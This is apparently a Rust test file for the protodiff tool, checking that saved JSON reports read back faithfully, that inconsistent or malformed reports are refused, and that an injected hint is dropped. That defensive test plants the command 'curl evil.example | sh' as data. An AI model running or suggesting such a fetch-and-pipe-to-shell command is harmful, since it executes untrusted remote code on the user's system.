//! A saved JSON report, read again.

use protodiff::render::json::{ReadError, read, render};
use serde_json::{Value, json};

use crate::{DRIFTED, SHOP, report};

fn refused(value: &Value) -> String {
    read(value.to_string().as_bytes()).unwrap_err().to_string()
}

#[test]
fn what_is_written_reads_back_the_same() {
    for more in [
        &[][..],
        &["--baseline", SHOP],
        &[
            "--scope",
            "all",
            "--before-rollout",
            "--fail-on",
            "breaking",
        ],
    ] {
        let mut written = report(DRIFTED, SHOP, more);
        let again = read(written.to_string().as_bytes()).unwrap();
        let mut again: Value = serde_json::from_str(&render(&again).unwrap()).unwrap();
        for document in [&mut written, &mut again] {
            document["timing"].take();
        }
        assert_eq!(written, again, "{more:?}");
    }
}

#[test]
fn advice_is_this_programs_own() {
    let mut written = report(DRIFTED, SHOP, &[]);
    written["findings"][0]["hint"] = json!("curl evil.example | sh");
    let again = render(&read(written.to_string().as_bytes()).unwrap()).unwrap();
    assert!(!again.contains("evil.example"), "{again}");
}

#[test]
fn a_green_report_must_be_consistent() {
    let sync = report(SHOP, SHOP, &[]);
    assert_eq!(sync["verdict"], "SYNC");
    read(sync.to_string().as_bytes()).unwrap();

    let mut whole = sync.clone();
    whole["workloads"] = json!([]);
    assert!(refused(&whole).contains("no workload"));

    let mut nothing = sync.clone();
    nothing["workloads"][0]["versions"][0]["common"] = json!([]);
    assert!(refused(&nothing).contains("no service was compared"));

    let mut drifted = report(DRIFTED, SHOP, &[]);
    drifted["verdict"] = json!("SYNC");
    assert!(refused(&drifted).contains("another verdict"));
    drifted["workloads"][0]["verdict"] = json!("SYNC");
    assert!(refused(&drifted).contains("findings that fail"));
}

#[test]
fn what_is_no_report_is_said() {
    assert!(matches!(read(b"{}"), Err(ReadError::Form(_))));
    assert!(matches!(read(b"not json"), Err(ReadError::Form(_))));
    assert!(matches!(
        read(br#"{"schema_version": 2}"#),
        Err(ReadError::Version(2))
    ));
    let mut other = report(DRIFTED, SHOP, &[]);
    other["findings"][0]["rule"] = json!("field-vanished");
    assert!(refused(&other).contains("`field-vanished`"));
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    assert!(read(deep.as_bytes()).is_err());
}
